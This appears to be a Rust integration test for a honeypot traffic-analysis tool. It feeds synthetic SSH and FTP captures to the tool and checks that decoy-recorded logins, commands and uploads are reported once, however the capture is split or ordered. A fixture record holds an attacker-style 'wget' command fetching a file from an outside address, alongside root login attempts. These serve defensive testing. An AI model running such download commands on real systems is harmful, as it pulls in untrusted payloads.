//! What a decoy recorded inside an encrypted connection, and what packets show by themselves: one set of messages, nothing twice,
//! whatever way the capture is cut and ordered.

use std::fs;
use std::path::Path;
use std::process::Command;

use trapline_testing::packets::{names, parse};
use trapline_wire::pcapng::Writer;
use trapline_wire::{Frame, LinkType, Time};

const PLATFORM: &str = "[platform]\nname = \"p\"\n[[host]]\nname = \"mach2\"\naddresses = [\"192.0.2.12\"]\n";

const PACKETS: &str = r#"
2003-08-11 10:00:00    203.0.113.5:1025 > mach2:22  tcp S
2003-08-11 10:00:00.1  mach2:22  > 203.0.113.5:1025 tcp SA
2003-08-11 10:00:00.2  203.0.113.5:1025 > mach2:22  tcp PA "SSH-2.0-libssh2_1.4.3\r\n"
2003-08-11 10:00:00.3  mach2:22  > 203.0.113.5:1025 tcp PA "SSH-1.99-OpenSSH_3.1p1\n"
2003-08-11 10:00:05    203.0.113.5:1025 > mach2:22  tcp PA "\x8f\x01\x02\x03"
2003-08-11 10:00:09    203.0.113.5:1025 > mach2:22  tcp PA "\x8f\x01\x02\x03"
2003-08-11 10:00:10    mach2:22  > 203.0.113.5:1025 tcp PA "\x8f\x01\x02\x03"
2003-08-11 10:00:11    203.0.113.5:1025 > mach2:22  tcp FA
2003-08-11 10:01:00    203.0.113.5:1026 > mach2:21  tcp S
2003-08-11 10:01:00.1  mach2:21  > 203.0.113.5:1026 tcp SA
2003-08-11 10:01:00.2  mach2:21  > 203.0.113.5:1026 tcp PA "220 ready\r\n"
2003-08-11 10:01:01    203.0.113.5:1026 > mach2:21  tcp PA "USER ftp\r\n"
2003-08-11 10:01:02    203.0.113.5:1026 > mach2:21  tcp PA "PASS me@home\r\n"
2003-08-11 10:01:03    203.0.113.5:1026 > mach2:21  tcp R
"#;

/// What the decoy recorded with a packet, by its place.
const RECORDS: [(usize, &str); 4] = [
    (
        4,
        r#"{"time_ns":1,"service":"ssh","what":"login","user":"root","password":"p\\xe4ss","accepted":false}"#,
    ),
    (5, r#"{"time_ns":2,"service":"ssh","what":"login","user":"root","password":"","accepted":true}"#),
    (
        6,
        "{\"service\":\"ssh\",\"what\":\"command\",\"line\":\"wget http://198.51.100.7/x\"}\n{\"service\":\"ssh\",\"what\":\"upload\",\"name\":\"x\",\"bytes\":5,\"sha256\":\"2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824\"}",
    ),
    // Not ours, whatever it looks like.
    (12, r#"{"service":"ssh","what":"login","user":"forged","password":"forged","accepted":true}"#),
];

/// The packets with these places, as one capture.
fn capture(packets: &[(Time, Vec<u8>)], places: impl Iterator<Item = usize>) -> Vec<u8> {
    let mut out = Vec::new();
    let mut writer = Writer::new(&mut out);
    writer.named_interface(&mut out, LinkType::RAW, "uplink");
    for place in places {
        let (time, data) = &packets[place];
        let record = RECORDS.iter().find(|(of, _)| *of == place).map(|(_, text)| *text);
        let comment = match record {
            Some(text) if place == 12 => text.to_owned(),
            Some(text) => format!("trapline-record {text}"),
            None => String::new(),
        };
        let frame = Frame { link: LinkType::RAW, time: *time, wire_len: data.len() as u32, data };
        writer.commented_frame(&mut out, 0, &frame, &comment);
    }
    out
}

fn told(folder: &Path, captures: &[&str], threads: &str) -> String {
    let trapline = |arguments: &[&str]| {
        let output = Command::new(env!("CARGO_BIN_EXE_trapline"))
            .args(arguments)
            .current_dir(folder)
            .output()
            .unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).unwrap()
    };
    let _ = fs::remove_dir_all(folder.join("data"));
    for capture in captures {
        trapline(&["ingest", capture, "--platform", "platform.toml", "--data", "data", "--threads", threads]);
    }
    trapline(&[
        "sql",
        "--data",
        "data",
        "--format",
        "csv",
        "select service, kind, verb, object, \"user\", password, body_bytes, details, started_by, at from requests \
         where said_by = 'source' and (service <> 'ssh' or kind <> 'hello') order by at, place",
    ])
}

#[test]
fn what_was_said_inside_ssh_is_told_once_beside_what_packets_show() {
    let folder = tempfile::tempdir().unwrap();
    let file = |name: &str| folder.path().join(name);
    fs::write(file("platform.toml"), PLATFORM).unwrap();
    let packets = parse(PACKETS, &names(PLATFORM));
    let all = packets.len();
    fs::write(file("whole.pcapng"), capture(&packets, 0..all)).unwrap();
    let whole = told(folder.path(), &["whole.pcapng"], "1");
    let expected = [
        "ssh,request,login,,root,päss,,",
        "ssh,request,login,,root,,,",
        "ssh,request,wget,http://198.51.100.7/x,,,,",
        "ssh,transfer,put,x,,,5,",
        "ftp,request,USER,ftp,",
        "ftp,request,PASS,",
    ];
    let lines: Vec<&str> =
        whole.lines().filter(|line| line.starts_with("ssh") || line.starts_with("ftp")).collect();
    assert_eq!(lines.len(), expected.len(), "{whole}");
    for (line, expected) in lines.iter().zip(expected) {
        assert!(line.starts_with(expected), "{expected}: {whole}");
    }
    assert!(
        whole.contains("accepted: no") && whole.contains("accepted: yes") && whole.contains(",source,"),
        "{whole}"
    );
    assert!(!whole.contains("forged"), "{whole}");

    // Threads, halves, halves that come in the wrong order, and a capture out of order: all the same.
    assert_eq!(told(folder.path(), &["whole.pcapng"], "4"), whole);
    fs::write(file("a.pcapng"), capture(&packets, 0..6)).unwrap();
    fs::write(file("b.pcapng"), capture(&packets, 6..all)).unwrap();
    assert_eq!(told(folder.path(), &["a.pcapng", "b.pcapng"], "2"), whole);
    assert_eq!(told(folder.path(), &["b.pcapng", "a.pcapng"], "2"), whole);
    fs::write(file("backwards.pcapng"), capture(&packets, (0..all).rev())).unwrap();
    assert_eq!(told(folder.path(), &["backwards.pcapng"], "1"), whole);
    assert_eq!(all % 2, 0);
    fs::write(file("jumps.pcapng"), capture(&packets, (0..all).map(|i| i ^ 1))).unwrap();
    assert_eq!(told(folder.path(), &["jumps.pcapng"], "1"), whole);
}
